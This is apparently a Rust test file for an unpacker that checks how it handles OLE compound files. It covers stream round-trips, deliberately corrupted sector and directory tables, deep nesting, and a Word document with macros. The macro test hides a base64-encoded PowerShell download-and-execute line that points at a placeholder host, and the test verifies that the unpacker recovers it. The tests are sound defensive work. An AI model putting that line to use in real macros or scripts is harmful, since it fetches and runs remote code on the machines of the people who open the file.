//! OLE compound files: streams as the `cfb` crate writes them, tables that go in circles and
//! claim what is not there, and the document that has one in it.

#![cfg(feature = "ole")]
#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stderr,
    clippy::string_slice,
    clippy::unwrap_used,
    reason = "tests may fail loudly"
)]

mod common;

use std::io::Write;

use b64unpack::{Limits, Tree, Unpacker, formats};
use cfb::Version;
use common::problems;

type Streams = Vec<(String, Vec<u8>)>;

/// Streams with their paths, in storages that are made for them.
fn compound(version: Version, streams: &Streams) -> Vec<u8> {
    let out = std::io::Cursor::new(Vec::new());
    let mut file = cfb::CompoundFile::create_with_version(version, out).unwrap();
    for (name, content) in streams {
        if let Some((storage, _)) = name.rsplit_once('/') {
            file.create_storage_all(format!("/{storage}")).unwrap();
        }
        let mut stream = file.create_stream(format!("/{name}")).unwrap();
        stream.write_all(content).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

fn content(seed: usize, size: usize) -> Vec<u8> {
    let byte = |at: usize| (at * 7 + at / 251 + seed) as u8;
    (0..size).map(byte).collect()
}

fn unpack(bytes: &[u8]) -> Tree {
    let limits = Limits::DEFAULT.entry_bytes(1 << 16).total_bytes(1 << 18);
    let unpacker = Unpacker::new().formats(&[&formats::Ole]).limits(limits);
    unpacker.container_input(true).unpack(bytes)
}

fn streams(tree: &Tree) -> Streams {
    let roots = tree.roots();
    let named = roots.map(|member| {
        let name = member.member_name().unwrap().into_owned();
        (name, member.bytes().to_vec())
    });
    let mut all: Streams = named.collect();
    all.sort();
    all
}

/// Streams of all sizes about the limits of sectors, in storages in storages.
#[test]
fn what_was_written_comes_out() {
    let sizes = [0, 1, 63, 64, 65, 4095, 4096, 4097, 9000];
    for version in [Version::V3, Version::V4] {
        let folders = ["", "Macros/", "Macros/VBA/"];
        let named = sizes.into_iter().enumerate().map(|(place, size)| {
            let name = format!("{}Module{place}", folders[place % 3]);
            (name, content(place, size))
        });
        let mut expected: Streams = named.collect();
        let bytes = compound(version, &expected);
        expected.sort();
        let tree = unpack(&bytes);
        assert_eq!(streams(&tree), expected);
        assert!(tree.problems().is_empty(), "{:?}", tree.problems());
        for cut in (8..bytes.len() - 4096).step_by(97) {
            assert!(!unpack(&bytes[..cut]).problems().is_empty(), "cut at {cut}");
        }
    }
}

/// A small file of version 3 with a long stream, a short one and a storage, and where its tables
/// are (MS-CFB, 2.2 to 2.6).
struct Small {
    bytes: Vec<u8>,
}

impl Small {
    fn new() -> Small {
        let streams = vec![
            ("Long".to_owned(), content(1, 5000)),
            ("Short".to_owned(), content(2, 300)),
            ("Folder/Inner".to_owned(), content(3, 100)),
        ];
        Small {
            bytes: compound(Version::V3, &streams),
        }
    }

    fn number(&self, at: usize) -> u32 {
        u32::from_le_bytes(self.bytes[at..at + 4].try_into().unwrap())
    }

    fn put(&mut self, at: usize, number: u32) {
        self.bytes[at..at + 4].copy_from_slice(&number.to_le_bytes());
    }

    fn sector(number: u32) -> usize {
        512 * (number as usize + 1)
    }

    /// The place of a number in the table of sectors, and in that of mini sectors.
    fn table(&self, number: u32) -> usize {
        Small::sector(self.number(76)) + 4 * number as usize
    }

    fn mini_table(&self, number: u32) -> usize {
        Small::sector(self.number(60)) + 4 * number as usize
    }

    /// The directory entry of a name.
    fn entry(&self, name: &str) -> usize {
        let wide: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut at = 512;
        while !self.bytes[at..].starts_with(&wide) {
            at += 128;
        }
        at
    }

    fn start(&self, name: &str) -> u32 {
        self.number(self.entry(name) + 116)
    }
}

/// What is done to the tables, and the problems that must be named; what is not touched by it is
/// still there.
#[test]
fn hostile_tables() {
    type Damage = fn(&mut Small);
    let cases: &[(&str, Damage, &[&str], &[&str])] = &[
        (
            "a sector that follows itself",
            |small| {
                let first = small.start("Long");
                small.put(small.table(first), first);
            },
            &["truncated"],
            &["Short", "Folder/Inner"],
        ),
        (
            "a circle of three sectors",
            |small| {
                let first = small.start("Long");
                small.put(small.table(first + 2), first);
            },
            &["truncated"],
            &["Short", "Folder/Inner"],
        ),
        (
            "a mini sector that follows itself",
            |small| {
                let first = small.start("Short");
                small.put(small.mini_table(first), first);
            },
            &["truncated"],
            &["Long", "Folder/Inner"],
        ),
        (
            "a directory in a circle",
            |small| {
                let first = small.number(48);
                small.put(small.table(first), first);
            },
            &["corrupt"],
            &["Long", "Short"],
        ),
        (
            "a table of mini sectors in a circle",
            |small| {
                let first = small.number(60);
                small.put(small.table(first), first);
            },
            &["corrupt"],
            &["Long", "Short", "Folder/Inner"],
        ),
        (
            "lists of tables in a circle",
            |small| {
                small.put(68, 0);
                small.put(72, 1);
                let last = Small::sector(0) + 508;
                small.put(last, 0);
            },
            &["corrupt"],
            &[],
        ),
        (
            "siblings in a circle",
            |small| {
                let entry = small.entry("Short");
                for at in [68, 72, 76] {
                    small.put(entry + at, 1);
                }
            },
            &[],
            &["Long", "Short", "Folder/Inner"],
        ),
        (
            "a storage in itself",
            |small| {
                let entry = small.entry("Folder");
                for at in [68, 72, 76] {
                    small.put(entry + at, ((entry - 512) / 128 % 4) as u32);
                }
            },
            &[],
            &["Long", "Short"],
        ),
        (
            "a claim of 4 GiB",
            |small| {
                let entry = small.entry("Long");
                small.put(entry + 120, u32::MAX);
            },
            &["truncated"],
            &["Short", "Folder/Inner"],
        ),
        (
            "a stream that begins nowhere",
            |small| {
                let entry = small.entry("Long");
                small.put(entry + 116, 0xffff_fff0);
            },
            &["truncated"],
            &["Short", "Folder/Inner"],
        ),
        (
            "a mini stream that begins nowhere",
            |small| {
                let entry = small.entry("Root Entry");
                small.put(entry + 116, 0x00ff_fff0);
            },
            &["corrupt", "truncated"],
            &["Long"],
        ),
        (
            "a table out of the file",
            |small| small.put(76, 0x00ff_0000),
            &["bounds"],
            &[],
        ),
        (
            "sectors of 2^30 bytes",
            |small| small.bytes[30] = 30,
            &["header"],
            &["Long", "Short", "Folder/Inner"],
        ),
    ];
    let whole = streams(&unpack(&Small::new().bytes));
    for (name, damage, kinds, kept) in cases {
        let mut small = Small::new();
        damage(&mut small);
        let tree = unpack(&small.bytes);
        let said = problems(&tree);
        for kind in *kinds {
            assert!(
                said.iter().any(|said| said.ends_with(kind)),
                "{name}: {said:?}"
            );
        }
        assert!(!kinds.is_empty() || said.is_empty(), "{name}: {said:?}");
        let found = streams(&tree);
        for kept in *kept {
            let own = whole.iter().find(|(name, _)| name == kept).unwrap();
            let last = kept.rsplit('/').next().unwrap();
            let there = |(name, bytes): &(String, Vec<u8>)| name.ends_with(last) && *bytes == own.1;
            assert!(found.iter().any(there), "{name}: {kept} is lost: {said:?}");
        }
    }
}

/// Each name is no longer than so many storages, however deep they are nested.
#[test]
fn deep_storages() {
    let deep = (0..400).map(|_| "d").collect::<Vec<_>>().join("/");
    let bytes = compound(Version::V3, &vec![(format!("{deep}/s"), content(1, 10))]);
    let found = streams(&unpack(&bytes));
    assert_eq!(found.len(), 1);
    let (name, content_of) = &found[0];
    assert_eq!(content_of, &content(1, 10));
    assert!(name.ends_with("/d/s") && name.len() <= 2 * 70, "{name}");
}

/// Streams that share a chain are read a few times, not each.
#[test]
fn shared_chains() {
    let many: Streams = (0..200)
        .map(|place| (format!("s{place:03}"), content(place, 5000)))
        .collect();
    let mut small = Small {
        bytes: compound(Version::V3, &many),
    };
    let first = small.start("s000");
    for (name, _) in &many {
        let entry = small.entry(name);
        small.put(entry + 116, first);
        small.put(entry + 120, 1 << 30);
    }
    let unpacker = Unpacker::new().formats(&[&formats::Ole]);
    let tree = unpacker.container_input(true).unpack(&small.bytes);
    let total: usize = tree.iter().map(|payload| payload.bytes().len()).sum();
    assert!(total <= 4 * small.bytes.len(), "{total}");
    assert_eq!(tree.problems().len(), 200);
}

/// A document with macros: a zip archive (ECMA-376) with a compound file in it (MS-OVBA).
#[cfg(feature = "zip")]
#[test]
fn document_with_macros() {
    use base64::Engine;
    use base64::engine::general_purpose::STANDARD;

    let hidden = "IEX (New-Object Net.WebClient).DownloadString('http://host.example/a')";
    let form = format!("Caption=\"{}\"", STANDARD.encode(hidden));
    let project: Streams = vec![
        ("VBA/dir".to_owned(), content(1, 700)),
        ("VBA/Module1".to_owned(), content(2, 5000)),
        ("UserForm1/f".to_owned(), form.into_bytes()),
        (
            "PROJECT".to_owned(),
            b"ID=\"{0}\"\r\nModule=Module1\r\n".to_vec(),
        ),
    ];
    let vba = compound(Version::V3, &project);
    let parts = [
        (
            "[Content_Types].xml",
            &b"<?xml version=\"1.0\"?><Types/>"[..],
        ),
        ("word/document.xml", b"<?xml version=\"1.0\"?><w:document/>"),
        ("word/vbaProject.bin", &vba),
    ];
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        let options = zip::write::SimpleFileOptions::default();
        out.start_file(name, options).unwrap();
        out.write_all(bytes).unwrap();
    }
    let document = out.finish().unwrap().into_inner();
    let log = format!("attachment: {} end", STANDARD.encode(&document));
    let tree = Unpacker::new().unpack(log);
    assert!(tree.problems().is_empty(), "{:?}", tree.problems());
    let chains: Vec<String> = tree.iter().map(|p| p.chain().to_string()).collect();
    let vba = "base64>zip:word/vbaProject.bin";
    for expected in ["base64", "base64>zip:word/document.xml", vba] {
        assert!(chains.iter().any(|chain| chain == expected), "{chains:?}");
    }
    for (name, bytes) in &project {
        let chain = format!("{vba}>ole:{name}");
        let place = chains.iter().position(|found| *found == chain);
        let found = tree
            .iter()
            .nth(place.unwrap_or_else(|| panic!("{chain}: {chains:?}")));
        assert_eq!(found.unwrap().bytes(), bytes);
    }
    let last = format!("{vba}>ole:UserForm1/f>base64");
    let place = chains.iter().position(|found| *found == last).unwrap();
    assert_eq!(tree.iter().nth(place).unwrap().bytes(), hidden.as_bytes());
}
